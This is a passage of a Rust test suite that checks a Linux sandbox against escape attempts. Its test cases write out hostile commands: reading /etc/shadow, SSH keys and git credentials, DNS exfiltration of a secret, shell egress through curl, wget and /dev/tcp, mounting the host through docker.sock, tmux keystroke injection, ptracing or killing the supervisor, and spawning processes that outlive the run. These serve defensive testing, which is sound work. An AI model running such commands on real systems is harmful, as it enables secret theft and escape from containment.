        modes(&bashrc),
        std::fs::metadata(&prof).unwrap().modified().unwrap(),
    );
    assert_eq!(before, after);
});

case!(a08_flock_dos_ends_with_the_run, |c| {
    std::fs::create_dir_all(c.w.join(".git")).unwrap();
    std::fs::write(c.w.join(".git/index"), "").unwrap();
    let out = c.run(
        &p_std(),
        "(flock -x /etc/passwd sleep 600 &); \
         python3 -c \"import fcntl,time;f=open('.git/index','rb');fcntl.flock(f,fcntl.LOCK_EX);time.sleep(600)\" & \
         sleep 0.5; echo started 1",
    );
    expect(&out, "started", &["1"]);
    assert!(!out.record.exit.timed_out);
    let st = Command::new("flock")
        .args(["-n", "/etc/passwd", "true"])
        .status()
        .unwrap();
    assert!(st.success(), "host lock on /etc/passwd survived the run");
    let st = Command::new("flock")
        .args(["-n", c.w.join(".git/index").to_str().unwrap(), "true"])
        .status()
        .unwrap();
    assert!(st.success(), "lock on .git/index survived the run");
});

case!(a09_device_nodes_fifos_sockets, |c| {
    let out = c.run(
        &p_std(),
        &format!(
            "mknod mem c 1 1; echo \"mknod $?\"; mkfifo fifo && echo 'fifo OK'; mkfifo /tmp/fifo-{n}; echo \"tmpfifo $?\"; {}",
            py("t('unixbind', lambda: socket.socket(socket.AF_UNIX).bind('s.sock'))"),
            n = c.name
        ),
    );
    expect_fail(&out, "mknod");
    expect(&out, "fifo", &["OK"]);
    expect_fail(&out, "tmpfifo");
    expect(&out, "unixbind", &["EPERM"]);
    assert!(!c.w.join("mem").exists());
    assert!(!c.w.join("s.sock").exists());
    assert_absent(&[&format!("/tmp/fifo-{}", c.name)]);
});

case!(a10_device_ioctls_and_controlling_tty, |c| {
    let out = c.run(
        &p_std(),
        &py("import termios,array; t('fionread', lambda: fcntl.ioctl(open('/dev/zero','rb'), termios.FIONREAD, array.array('i',[0]))); \
             t('tty', lambda: os.open('/dev/tty', os.O_RDWR))"),
    );
    expect(&out, "fionread", &["EACCES"]);
    expect(&out, "tty", &["ENXIO"]);
});

case!(a11_proc_sys_and_cgroup_writes, |c| {
    let out = c.run(
        &p_std(),
        &py("t('sysrq', lambda: write('/proc/sys/kernel/sysrq')); t('trigger', lambda: write('/proc/sysrq-trigger')); \
             t('dmesg', lambda: write('/proc/sys/kernel/dmesg_restrict')); \
             t('cgv1', lambda: write('/sys/fs/cgroup/pids/cgroup.procs')); \
             t('cgv2', lambda: write('/sys/fs/cgroup/unified/cgroup.procs'))"),
    );
    for l in ["sysrq", "trigger", "dmesg", "cgv1", "cgv2"] {
        expect(&out, l, &["EACCES", "EROFS", "EPERM", "ENOENT"]);
    }
    // The run stayed in its cgroup (root) — the record names it and it is gone afterwards.
    if is_root() {
        let cg = out
            .record
            .layers
            .cgroup
            .clone()
            .expect("root runs use a pids cgroup");
        assert!(!cg.exists(), "cgroup {} not cleaned up", cg.display());
    }
});

case!(a12_chroot_mount_namespaces, |c| {
    let out = c.run(
        &p_std(),
        &format!(
            "unshare -Urm sh -c 'mount -t tmpfs t .git'; echo \"unshare $?\"; mount --bind . /etc; echo \"mount $?\"; {}",
            py("t('chroot', lambda: os.chroot('.'))")
        ),
    );
    expect_fail(&out, "unshare");
    expect_fail(&out, "mount");
    expect(&out, "chroot", &["EPERM"]);
});

case!(a13_exec_restriction_is_not_a_boundary, |c| {
    let pol = p_std_with(|t| t.replace("\"/opt\", \"{workdir}\"]", "\"/opt\"]"));
    let out = c.run(
        &pol,
        "cp /bin/true ./t; ./t; echo \"direct $?\"; /lib64/ld-linux-x86-64.so.2 ./t; echo \"ldso $?\"; \
         printf 'exit 0\\n' > s.sh; bash s.sh; echo \"interp $?\"; \
         python3 -c \"import os;f=os.memfd_create('x');os.write(f,open('/bin/true','rb').read());os.execv(f'/proc/self/fd/{f}',['x'])\"; echo \"memfd $?\"",
    );
    expect(&out, "direct", &["126"]);
    // Documented residual risks: the loader and interpreters run code from /w regardless.
    expect(&out, "ldso", &["0"]);
    expect(&out, "interp", &["0"]);
    // memfd exec also runs on this kernel (memfd files live on an internal mount Landlock
    // does not mediate): recorded in SECURITY.md, asserted so a change is noticed. Without a
    // memory cgroup memfd_create is denied, so it fails there (python exits 1).
    if out.record.layers.memory.memfd == ollie_sandbox::MemfdAccess::Denied {
        expect(&out, "memfd", &["1"]);
    } else {
        expect(&out, "memfd", &["0"]);
    }
});

fn secrets_script(c: &Ctx) -> String {
    let mut s = String::new();
    for (i, (p, _)) in c.secrets.iter().enumerate() {
        s.push_str(&format!(
            "cat {} >/dev/null 2>&1; echo \"s{i} $?\"; ",
            p.display()
        ));
    }
    s.push_str("cat /etc/shadow >/dev/null 2>&1; echo \"shadow $?\"; ");
    s.push_str("cat /root/.bash_history >/dev/null 2>&1; echo \"roothist $?\"; ");
    s.push_str(&format!(
        "HOME={} git credential fill <<<'url=https://github.com' 2>/dev/null </dev/null; echo \"gitcred $?\"; ",
        c.home.display()
    ));
    s
}

case!(a14_reading_secrets_std_and_ro, |c| {
    for pol in [p_std(), p_ro()] {
        let out = c.run(&pol, &secrets_script(c));
        for i in 0..c.secrets.len() {
            expect_fail(&out, &format!("s{i}"));
        }
        expect_fail(&out, "shadow");
        expect_fail(&out, "roothist");
    }
    // The carve-out is visible in the P-ro record.
    let out = c.run(&p_ro(), "true");
    let carved = &out.record.layers.landlock.carved_out;
    assert!(carved.iter().any(|p| p.ends_with(".ssh")), "{carved:?}");
    assert!(
        carved.iter().any(|p| p == Path::new("/etc/shadow")),
        "{carved:?}"
    );
});

case!(a15_shared_tmp_and_shm, |c| {
    // /tmp is the host's and stays closed. /dev/shm is a private, size-limited tmpfs per run:
    // POSIX shared memory works inside, and nothing reaches (or comes from) the host's.
    let n = &c.name;
    let host_shm = format!("/dev/shm/sbx-host-{n}");
    std::fs::write(&host_shm, "host").unwrap();
    let out = c.run(
        &p_std(),
        &py(&format!(
            "t('tmp', lambda: write('/tmp/sbx-{n}')); t('shm', lambda: write('/dev/shm/sbx-{n}')); \
             t('symlink', lambda: os.symlink('{}', '/tmp/app-{n}.log')); \
             t('hostshm', lambda: open('{host_shm}').read()); \
             t('shmlink', lambda: os.symlink('{}', '/dev/shm/rc')); t('shmrc', lambda: write('/dev/shm/rc', 'a')); \
             from multiprocessing import shared_memory as s; t('shmem', lambda: s.SharedMemory(create=True,size=4096))",
            c.home.join(".bashrc").display(),
            c.home.join(".bashrc").display()
        )),
    );
    for l in ["tmp", "symlink", "shmrc"] {
        expect(&out, l, DENIED_W);
    }
    expect(&out, "shm", &["OK"]);
    expect(&out, "shmem", &["OK"]);
    expect(&out, "shmlink", &["OK"]);
    expect(&out, "hostshm", &["FileNotFoundError", "ENOENT"]);
    assert_eq!(std::fs::read_to_string(&host_shm).unwrap(), "host");
    let _ = std::fs::remove_file(&host_shm);
    assert_eq!(
        std::fs::read_to_string(c.home.join(".bashrc")).unwrap(),
        "# bashrc canary\n"
    );
    assert_absent(&[
        &format!("/tmp/sbx-{n}"),
        &format!("/dev/shm/sbx-{n}"),
        "/dev/shm/rc",
        &format!("/tmp/app-{n}.log"),
    ]);
    assert_eq!(
        out.record.layers.mounts.private_shm.as_deref(),
        Some(Path::new("/dev/shm"))
    );
});

case!(a16_workspace_is_home_secrets_stay_closed, |c| {
    // A user runs a tool with $HOME as the workspace. Secrets stay unreadable and their
    // metadata cannot change; existing non-secret entries are writable. Documented limitation:
    // the carved directory itself (home) gets no rule, so nothing new can be created at its top.
    std::fs::create_dir_all(c.home.join("proj")).unwrap();
    let probe = format!(
        "{PROBE_PY}\nt('read', lambda: open('.ssh/id_ed25519').read())\n\
         t('chmod', lambda: os.chmod('.ssh', 0o777))\n\
         t('create', lambda: write('.ssh/authorized_keys'))\n\
         t('rename', lambda: os.rename('.aws', 'aws2'))\n\
         t('sub', lambda: write('proj/notes.txt'))\n\
         t('top', lambda: write('notes.txt'))\n"
    );
    std::fs::write(c.home.join("proj/probe.py"), probe).unwrap();
    let script = c.home.join("proj/probe.py");
    let mut req = c.request(&["python3", script.to_str().unwrap()]);
    req.workdir = c.home.clone();
    let ssh_mode = std::fs::metadata(c.home.join(".ssh"))
        .unwrap()
        .permissions()
        .mode();
    let out = c.run_with(&p_std(), &req);
    expect(&out, "read", &["EACCES"]);
    expect(&out, "chmod", &["EROFS", "EPERM"]);
    expect(&out, "create", DENIED_W);
    expect(&out, "rename", &["EBUSY", "EACCES", "EROFS", "EXDEV"]);
    expect(&out, "sub", &["OK"]);
    expect(&out, "top", &["EACCES"]);
    assert_eq!(
        std::fs::metadata(c.home.join(".ssh"))
            .unwrap()
            .permissions()
            .mode(),
        ssh_mode
    );
    assert!(!c.home.join(".ssh/authorized_keys").exists());
    assert!(c.home.join(".aws").exists());
    assert!(c.home.join("proj/notes.txt").exists());
    let carved = &out.record.layers.landlock.carved_out;
    assert!(carved.iter().any(|p| p.ends_with(".ssh")), "{carved:?}");
});

case!(a17_read_all_never_grants_devices, |c| {
    // "Rest of the filesystem read-only" must not include raw block devices (as root they
    // would bypass every file rule) or the kernel log; named devices still work.
    let mut devs: Vec<String> = std::fs::read_dir("/sys/class/block")
        .map(|rd| {
            rd.flatten()
                .map(|e| format!("/dev/{}", e.file_name().to_string_lossy()))
                .filter(|p| Path::new(p).exists())
                .collect()
        })
        .unwrap_or_default();
    devs.push("/dev/kmsg".into());
    let mut code = String::new();
    for (i, d) in devs.iter().enumerate() {
        code.push_str(&format!("t('dev{i}', lambda: open('{d}', 'rb').read(1)); "));
    }
    code.push_str("t('null', lambda: open('/dev/null', 'rb').read(1)); t('urandom', lambda: open('/dev/urandom', 'rb').read(1))");
    let out = c.run(&p_ro(), &py(&code));
    for i in 0..devs.len() {
        expect(&out, &format!("dev{i}"), &["EACCES"]);
    }
    expect(&out, "null", &["OK"]);
    expect(&out, "urandom", &["OK"]);
    let carved = &out.record.layers.landlock.carved_out;
    assert!(carved.iter().any(|p| p == Path::new("/dev")), "{carved:?}");
});

// ---------------------------------------------------------------------------------------------
// B. Network

struct TcpCanary(TcpListener);

impl TcpCanary {
    fn v4() -> TcpCanary {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        TcpCanary(l)
    }
    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }
    #[track_caller]
    fn assert_untouched(&self) {
        match self.0.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("canary listener got a connection: {other:?}"),
        }
    }
}

case!(b16_plain_egress, |c| {
    let (a, b) = (TcpCanary::v4(), TcpCanary::v4());
    let (p, q) = (a.port(), b.port());
    let out = c.run(
        &p_std(),
        &format!(
            "curl -m3 -sI http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"curl $?\"; \
             wget -t1 -T3 -qO- http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"wget $?\"; \
             bash -c 'echo > /dev/tcp/127.0.0.1/{p}' 2>/dev/null; echo \"devtcp $?\"; \
             ssh -o BatchMode=yes -o ConnectTimeout=2 -p {q} 127.0.0.1 true >/dev/null 2>&1; echo \"ssh $?\"; {}",
            py(&format!("t('pyconnect', lambda: socket.create_connection(('127.0.0.1', {p}), 2))"))
        ),
    );
    for l in ["curl", "wget", "devtcp", "ssh"] {
        expect_fail(&out, l);
    }
    expect(&out, "pyconnect", &["EPERM"]);
    a.assert_untouched();
    b.assert_untouched();
});

case!(b17_loopback_services, |c| {
    let a = TcpCanary::v4();
    let p = a.port();
    let v6 = TcpListener::bind("[::1]:0").ok();
    if let Some(l) = &v6 {
        l.set_nonblocking(true).unwrap();
    }
    let p6 = v6.as_ref().map_or(p, |l| l.local_addr().unwrap().port());
    let out = c.run(
        &p_std(),
        &format!(
            "curl -m3 -s http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"v4 $?\"; \
             curl -m3 -s 'http://[::1]:{p6}/' >/dev/null 2>&1; echo \"v6 $?\"; \
             curl -m3 -s http://localhost:{p}/ >/dev/null 2>&1; echo \"localhost $?\""
        ),
    );
    for l in ["v4", "v6", "localhost"] {
        expect_fail(&out, l);
    }
    a.assert_untouched();
    if let Some(l) = v6 {
        assert!(l.accept().is_err());
    }
});

case!(b18_udp_and_dns_exfiltration, |c| {
    let u = UdpSocket::bind("127.0.0.1:0").unwrap();
    u.set_nonblocking(true).unwrap();
    let p = u.local_addr().unwrap().port();
    std::fs::write(c.w.join("secret"), "workspace-secret").unwrap();
    let out = c.run(
        &p_std(),
        &format!(
            "{}; getent hosts $(head -c 12 secret | base32 | tr -d =).x.invalid >/dev/null; echo \"dns $?\"",
            py(&format!(
                "t('udp', lambda: socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'secret',('127.0.0.1',{p})))"
            ))
        ),
    );
    expect(&out, "udp", &["EPERM"]);
    expect_fail(&out, "dns");
    let mut buf = [0u8; 64];
    assert!(
        u.recv_from(&mut buf).is_err(),
        "udp canary received a datagram"
    );
});

case!(b19_dns_via_host_resolver_ipc, |c| {
    let out = c.run(
        &p_std(),
        &format!(
            "getent ahosts leak-$(id -u).invalid >/dev/null; echo \"getent $?\"; {}",
            py("t('gai', lambda: socket.getaddrinfo('leak.invalid', 80))")
        ),
    );
    expect_fail(&out, "getent");
    expect(&out, "gai", &["gaierror", "EPERM"]);
});

fn family_sweep(c: &Ctx, pol: &Policy) -> RunOutput {
    c.run(
        pol,
        &py("S=socket; \
             [t(n, lambda f=f,k=k,p=p: sock(f,k,p)) for n,f,k,p in [\
             ('inet_stream',S.AF_INET,S.SOCK_STREAM,0),('inet_dgram',S.AF_INET,S.SOCK_DGRAM,0),\
             ('inet_raw',S.AF_INET,S.SOCK_RAW,1),('inet_mptcp',S.AF_INET,S.SOCK_STREAM,262),\
             ('inet_sctp',S.AF_INET,S.SOCK_STREAM,132),('inet6_stream',S.AF_INET6,S.SOCK_STREAM,0),\
             ('inet6_dgram',S.AF_INET6,S.SOCK_DGRAM,0),('inet6_raw',S.AF_INET6,S.SOCK_RAW,58),\
             ('inet6_mptcp',S.AF_INET6,S.SOCK_STREAM,262),('packet',17,S.SOCK_RAW,0),\
             ('nl_route',16,S.SOCK_RAW,0),('nl_audit',16,S.SOCK_RAW,9),('nl_uevent',16,S.SOCK_RAW,15),\
             ('vsock',40,S.SOCK_STREAM,0),('alg',38,S.SOCK_SEQPACKET,0),('key',15,S.SOCK_RAW,2),\
             ('xdp',44,S.SOCK_RAW,0),('bluetooth',31,S.SOCK_STREAM,0),('tipc',30,S.SOCK_STREAM,0),\
             ('unix_stream',S.AF_UNIX,S.SOCK_STREAM,0),('unix_dgram',S.AF_UNIX,S.SOCK_DGRAM,0)]]; \
             t('socketpair', lambda: S.socketpair(S.AF_UNIX, S.SOCK_STREAM)); \
             sp=S.socketpair(S.AF_UNIX, S.SOCK_STREAM); t('sp_connect', lambda: sp[0].connect('\\0sbx')); \
             t('sp_bind', lambda: sp[0].bind('\\0sbx')); t('sp_listen', lambda: sp[0].listen(1)); \
             t('sp_send', lambda: sp[0].send(b'x')); \
             t('socketpair_inet', lambda: libc.socketpair(2,1,0,(ctypes.c_int*2)()) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(),'')))"),
    )
}

const SWEEP_DENIED: &[&str] = &[
    "inet_dgram",
    "inet_raw",
    "inet_mptcp",
    "inet_sctp",
    "inet6_dgram",
    "inet6_raw",
    "inet6_mptcp",
    "packet",
    "nl_route",
    "nl_audit",
    "nl_uevent",
    "vsock",
    "alg",
    "key",
    "xdp",
    "bluetooth",
    "tipc",
    "unix_stream",
    "unix_dgram",
];

case!(b20_socket_family_sweep, |c| {
    let out = family_sweep(c, &p_std());
    for l in SWEEP_DENIED
        .iter()
        .chain(&["inet_stream", "inet6_stream", "socketpair_inet"])
    {
        expect(&out, l, &["EPERM"]);
    }
    expect(&out, "socketpair", &["OK"]);
    // connect/bind/listen are denied outright with network off (EPERM, not EISCONN/EINVAL).
    for l in ["sp_connect", "sp_bind", "sp_listen"] {
        expect(&out, l, &["EPERM"]);
    }
    expect(&out, "sp_send", &["OK"]);
    // Under the network profile, only TCP stream sockets appear.
    let net = Policy::from_toml(&profile_text("network")).unwrap();
    let out = family_sweep(c, &net);
    for l in SWEEP_DENIED {
        expect(&out, l, &["EPERM"]);
    }
    expect(&out, "inet_stream", &["OK"]);
    expect(&out, "inet6_stream", &["OK"]);
    let out = c.run(
        &p_std(),
        "ping -c1 -W1 127.0.0.1 >/dev/null 2>&1; echo \"ping $?\"",
    );
    expect_fail(&out, "ping");
});

case!(b21_io_uring, |c| {
    let out = c.run(
        &p_std(),
        &py("p=(ctypes.c_byte*120)(); sc('setup', 425, 4, ctypes.addressof(p)); sc('enter', 426, 99, 0, 0, 0, 0, 0); sc('register', 427, 99, 0, 0, 0)"),
    );
    expect(&out, "setup", &["EPERM"]);
    expect(&out, "enter", &["EPERM"]); // not EBADF: seccomp runs before the fd check
    expect(&out, "register", &["EPERM"]);
});

// ---------------------------------------------------------------------------------------------
// C. Local IPC

struct UnixCanary {
    l: UnixListener,
}

impl UnixCanary {
    fn at(path: &Path) -> UnixCanary {
        let _ = std::fs::remove_file(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let l = UnixListener::bind(path).unwrap();
        l.set_nonblocking(true).unwrap();
        UnixCanary { l }
    }
    fn abstract_name(name: &str) -> UnixCanary {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        let l = UnixListener::bind_addr(&addr).unwrap();
        l.set_nonblocking(true).unwrap();
        UnixCanary { l }
    }
    #[track_caller]
    fn assert_untouched(&self) {
        match self.l.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("unix canary got a connection: {other:?}"),
        }
    }
}

case!(c22_docker_sock, |c| {
    let path = c.root.join("run/docker.sock");
    let k = UnixCanary::at(&path);
    let p = path.display();
    let out = c.run(
        &p_std(),
        &format!(
            "curl -s --unix-socket {p} http://d/v1.41/containers/json >/dev/null 2>&1; echo \"curl $?\"; \
             docker -H unix://{p} run -v /:/h alpine true >/dev/null 2>&1; echo \"docker $?\"; {}",
            py(&format!("t('connect', lambda: socket.socket(socket.AF_UNIX).connect('{p}'))"))
        ),
    );
    expect_fail(&out, "curl");
    expect_fail(&out, "docker");
    expect(&out, "connect", &["EPERM"]);
    k.assert_untouched();
});

case!(c23_dbus_and_systemd_user, |c| {
    let path = c.root.join("run/bus");
    let k = UnixCanary::at(&path);
    let p = path.display();
    let out = c.run(
        &p_std(),
        &format!(
            "export DBUS_SESSION_BUS_ADDRESS=unix:path={p}; busctl --user list >/dev/null 2>&1; echo \"busctl $?\"; \
             systemd-run --user --pty true >/dev/null 2>&1; echo \"systemdrun $?\"; \
             dbus-send --session --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames >/dev/null 2>&1; echo \"dbussend $?\"; {}",
            py(&format!("t('connect', lambda: socket.socket(socket.AF_UNIX).connect('{p}'))"))
        ),
    );
    for l in ["busctl", "systemdrun", "dbussend"] {
        expect_fail(&out, l);
    }
    expect(&out, "connect", &["EPERM"]);
    k.assert_untouched();
});

case!(c24_ssh_and_gpg_agent, |c| {
    let path = c.root.join("ssh-agent/agent.1");
    let k = UnixCanary::at(&path);
    let out = c.run(
        &p_std(),
        &format!(
            "echo \"envsock ${{SSH_AUTH_SOCK:-unset}}\"; SSH_AUTH_SOCK={} ssh-add -L >/dev/null 2>&1; echo \"sshadd $?\"; \
             gpg-connect-agent 'KEYINFO --list' /bye </dev/null >/dev/null 2>&1; echo \"gpg $?\"",
            path.display()
        ),
    );
    expect(&out, "envsock", &["unset"]);
    expect_fail(&out, "sshadd");
    k.assert_untouched();
});

case!(c25_terminal_multiplexers, |c| {
    let path = c.root.join("tmux/default");
    let k = UnixCanary::at(&path);
    let marker = c.root.join("tmux-pwned");
    let out = c.run(
        &p_std(),
        &format!(
            "tmux -S {} send-keys 'touch {}' Enter >/dev/null 2>&1; echo \"tmux $?\"; \
             screen -S main -X stuff 'touch /tmp/screen-pwned\\n' >/dev/null 2>&1; echo \"screen $?\"",
            path.display(),
            marker.display()
        ),
    );
    expect_fail(&out, "tmux");
    expect_fail(&out, "screen");
    k.assert_untouched();
    assert!(!marker.exists());
    assert_absent(&["/tmp/screen-pwned"]);
});

case!(c26_abstract_unix_sockets, |c| {
    let name = format!("sbx-canary-{}", token());
    let k = UnixCanary::abstract_name(&name);
    let out = c.run(
        &p_std(),
        &py(&format!(
            "t('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0{name}')); \
             t('x11', lambda: socket.socket(socket.AF_UNIX).connect('\\0/tmp/.X11-unix/X0'))"
        )),
    );
    expect(&out, "abstract", &["EPERM"]);
    expect(&out, "x11", &["EPERM"]);
    k.assert_untouched();
});

case!(c27_sysv_ipc_and_mqueues, |c| {
    let o = Command::new("ipcmk").args(["-M", "4096"]).output().unwrap();
    let text = String::from_utf8_lossy(&o.stdout).to_string();
    let id: i64 = text.split(':').nth(1).unwrap().trim().parse().unwrap();
    let info = std::fs::read_to_string("/proc/sysvipc/shm").unwrap();
    let key = info
        .lines()
        .find(|l| l.split_whitespace().nth(1) == Some(&id.to_string()))
        .and_then(|l| l.split_whitespace().next().map(str::to_string))
        .unwrap();
    let out = c.run(
        &p_std(),
        &format!(
            "ipcs -m | grep -c ' {id} '; {}",
            py(&format!(
                "sc('shmget', 29, {key}, 0, 0); sc('msgget', 68, 1234, 0o1600); sc('semget', 64, 1234, 1, 0o1600); \
                 sc('mqopen', 240, ctypes.addressof(ctypes.create_string_buffer(b'sbx')), 0o102, 0o600, 0)"
            ))
        ),
    );
    let _ = Command::new("ipcrm").args(["-m", &id.to_string()]).status();
    for l in ["shmget", "msgget", "semget", "mqopen"] {
        expect(&out, l, &["EPERM"]);
    }
    assert!(
        String::from_utf8_lossy(&out.stdout).starts_with("0\n"),
        "host segment visible"
    );
});

// ---------------------------------------------------------------------------------------------
// D. Processes and signals

case!(d28_killing_the_supervisor, |c| {
    let me = std::process::id();
    let out = c.run(
        &p_std(),
        &format!(
            "kill -9 $PPID 2>/dev/null; echo \"killppid $?\"; kill -STOP {me} 2>/dev/null; echo \"stoprunner $?\"; {}; echo 'alive OK'",
            py(&format!("import signal; t('pykill', lambda: os.kill($PPID, 9)); \
                t('pykillrunner', lambda: os.kill({me}, 9)); \
                t('pidfd', lambda: signal.pidfd_send_signal(os.pidfd_open($PPID), 9))"))
        ),
    );
    expect_fail(&out, "killppid");
    expect_fail(&out, "stoprunner");
    expect(&out, "pykill", &["EPERM", "ESRCH"]);
    expect(&out, "pykillrunner", &["EPERM", "ESRCH"]);
    expect(&out, "pidfd", &["EPERM", "ESRCH"]);
    expect(&out, "alive", &["OK"]);
    assert_eq!(out.record.exit.status, 0);
});

case!(d29_kill_everything_the_uid_owns, |c| {
    let mut canary = Command::new("sleep").arg("1000").spawn().unwrap();
    let out = c.run(&p_std(), "kill -9 -1; echo 'after OK'");
    // The tool may have killed itself with -1; what matters is outside.
    let _ = out;
    assert!(
        canary.try_wait().unwrap().is_none(),
        "host canary process was killed"
    );
    canary.kill().unwrap();
    canary.wait().unwrap();
});

case!(d30_ptrace_and_memory_access, |c| {
    let out = c.run(
        &p_std(),
        "strace -p $PPID >/dev/null 2>&1 </dev/null; echo \"strace $?\"; gdb -p $PPID -batch >/dev/null 2>&1 </dev/null; echo \"gdbppid $?\"; \
         python3 -c \"from t import *; sc('ptrace', 101, 16, $PPID, 0, 0); t('mem', lambda: open('/proc/%d/mem' % $PPID, 'r+b')); \
         t('memr', lambda: open('/proc/%d/mem' % $PPID, 'rb')); t('mem1', lambda: open('/proc/1/mem', 'rb')); \
         sc('vmread', 310, $PPID, 0, 0, 0, 0, 0)\"",
    );
    expect_fail(&out, "strace");
    expect(&out, "ptrace", &["EPERM"]);
    expect(&out, "mem", &["EACCES", "EPERM", "EROFS"]);
    expect(&out, "memr", &["EACCES", "EPERM"]);
    expect(&out, "mem1", &["EACCES", "EPERM"]);
    expect(&out, "vmread", &["EPERM"]);
});

case!(d31_reading_other_processes, |c| {
    let me = std::process::id();
    let out = c.run(
        &p_std(),
        &format!(
            "cat /proc/$PPID/environ >/dev/null 2>&1; echo \"ppidenv $?\"; cat /proc/{me}/environ >/dev/null 2>&1; echo \"runnerenv $?\"; \
             ls -l /proc/{me}/fd >/dev/null 2>&1; echo \"runnerfd $?\"; ls -l /proc/{me}/cwd/ >/dev/null 2>&1; echo \"runnercwd $?\"; \
             ls /proc/{me}/root/ >/dev/null 2>&1; echo \"runnerroot $?\"; \
             echo \"cmdline $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -c 'CANA[R]Y')\""
        ),
    );
    for l in [
        "ppidenv",
        "runnerenv",
        "runnerfd",
        "runnercwd",
        "runnerroot",
    ] {
        expect_fail(&out, l);
    }
    expect(&out, "cmdline", &["0"]);
});

fn wait_ready(fifo: &Path) -> bool {
    let fifo = fifo.to_path_buf();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        // Blocks until the tool opens the FIFO for writing, then reads its line.
        let mut s = String::new();
        if let Ok(mut f) = std::fs::File::open(&fifo) {
            let _ = f.read_to_string(&mut s);
        }
        let _ = tx.send(s);
    });
    // Hang guard only (not a timing assertion): the peer writes as soon as it starts.
    rx.recv_timeout(std::time::Duration::from_secs(60))
        .is_ok_and(|s| s.contains("ready"))
}

fn mkfifo(p: &Path) {
    assert!(Command::new("mkfifo").arg(p).status().unwrap().success());
}

case!(d32_two_tools_do_not_interfere, |c| {
    let b = Ctx::new("d32_b");
    let fifo = b.w.join("ready");
    mkfifo(&fifo);
    let cancel = Cancel::new().unwrap();
    let mut req_b = b.request(&[
        "bash",
        "-c",
        "echo ready > ready; exec sleep 300 # ollie-b-marker",
    ]);
    req_b.cancel = Some(cancel.clone());
    let pol = p_std();
    let pb = pol.clone();
    let th = std::thread::spawn(move || ollie_sandbox::run(&pb, &req_b).unwrap());
    assert!(wait_ready(&fifo));
    let btmp = b.w.join(".tmp");
    let out = c.run(
        &pol,
        &format!(
            "for p in $(pgrep -f ollie-b-marker); do kill -9 $p 2>/dev/null; echo \"kill $?\"; done; \
             for p in $(pgrep sleep); do strace -p $p >/dev/null 2>&1 </dev/null; echo \"strace $?\"; done; \
             echo x > {}/f 2>/dev/null; echo \"write $?\"",
            btmp.display()
        ),
    );
    let m = lines(&out);
    if m.contains_key("kill") {
        expect_fail(&out, "kill");
    }
    expect_fail(&out, "write");
    assert!(!btmp.join("f").exists());
    cancel.cancel();
    let rb = th.join().unwrap();
    assert!(rb.record.exit.cancelled);
    assert_eq!(
        rb.record.exit.signal,
        Some(libc::SIGTERM),
        "B was not killed by A"
    );
});

fn procs_with(marker: &str) -> Vec<String> {
    let mut v = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(cmd) = std::fs::read(e.path().join("cmdline")) {
            let s = String::from_utf8_lossy(&cmd).replace('\0', " ");
            if s.contains(marker) {
                v.push(s);
            }
        }
    }
    v
}

case!(d33_outliving_the_run, |c| {
    let out = c.run(
        &p_std(),
        "setsid -f sh -c 'sleep 5.0101; echo late > late1'; nohup sh -c 'sleep 5.0102; touch late2' >/dev/null 2>&1 & \
         python3 -c \"import os,ctypes,time;ctypes.CDLL(None).prctl(1,0);os.setsid();os.fork() or (time.sleep(5.0103),open('late3','w'))\"; exit 0",
    );
    assert_eq!(out.record.exit.status, 0);
    for m in ["sleep 5.0101", "sleep 5.0102", "time.sleep(5.0103)"] {
        assert!(procs_with(m).is_empty(), "{m} survived the run");
    }
    for f in ["late1", "late2", "late3"] {
        assert!(!c.w.join(f).exists());
    }
});

case!(d34_exit_status_reaping_cancel, |c| {
    let out = c.run(&p_std(), "(sleep 0.2 &); exit 7");
    assert_eq!((out.record.exit.code, out.record.exit.status), (Some(7), 7));
    let out = c.run(&p_std(), "sh -c 'kill -TERM $$'; exit $?");
    assert_eq!(out.record.exit.status, 143);
    let req = c.request(&["sh", "-c", "kill -TERM $$"]);
    let out = c.run_with(&p_std(), &req);
    assert_eq!(
        (out.record.exit.signal, out.record.exit.status),
        (Some(libc::SIGTERM), 143)
    );
    let out = c.run(&p_std(), "sleep 100 & exit 5");
    assert_eq!(out.record.exit.status, 5);
    assert!(!out.record.exit.timed_out);
    assert!(
        // "sleep 100 " (cmdline NULs become spaces): not "sleep 1000" of other suites.
        procs_with("sleep 100 ").is_empty(),
        "no process survives the run"
    );

    // Cancel: SIGTERM reaches the workload through init; then a hard kill after the grace.
    let pol = p_std_with(|t| t.replace("kill_grace_ms = 2000", "kill_grace_ms = 300"));
    for (script, want_t, want_sig) in [
        (
            "trap 'echo term > t; exit 0' TERM; echo ready > ready; sleep 100 & wait",
            true,
            None,
        ),
        (
            "trap '' TERM; echo ready > ready; while :; do sleep 100; done",
            false,
            Some(libc::SIGKILL),
        ),
    ] {
        let fifo = c.w.join("ready");
        let _ = std::fs::remove_file(&fifo);
        let _ = std::fs::remove_file(c.w.join("t"));
        mkfifo(&fifo);
        let cancel = Cancel::new().unwrap();
        let mut req = c.request(&["bash", "-c", script]);
        req.cancel = Some(cancel.clone());
        let p2 = pol.clone();
        let th = std::thread::spawn(move || ollie_sandbox::run(&p2, &req).unwrap());
        assert!(wait_ready(&fifo));
        cancel.cancel();
        let out = th.join().unwrap();
        assert!(out.record.exit.cancelled);
        assert_eq!(c.w.join("t").exists(), want_t, "{script}");
        if let Some(sig) = want_sig {
            assert_eq!(out.record.exit.signal, Some(sig), "{script}");
        } else {
            assert_eq!(out.record.exit.status, 0, "{script}");
        }
    }
});

// ---------------------------------------------------------------------------------------------
// E. Syscalls and kernel surface

case!(e35_own_state, |c| {
    let out = c.run(
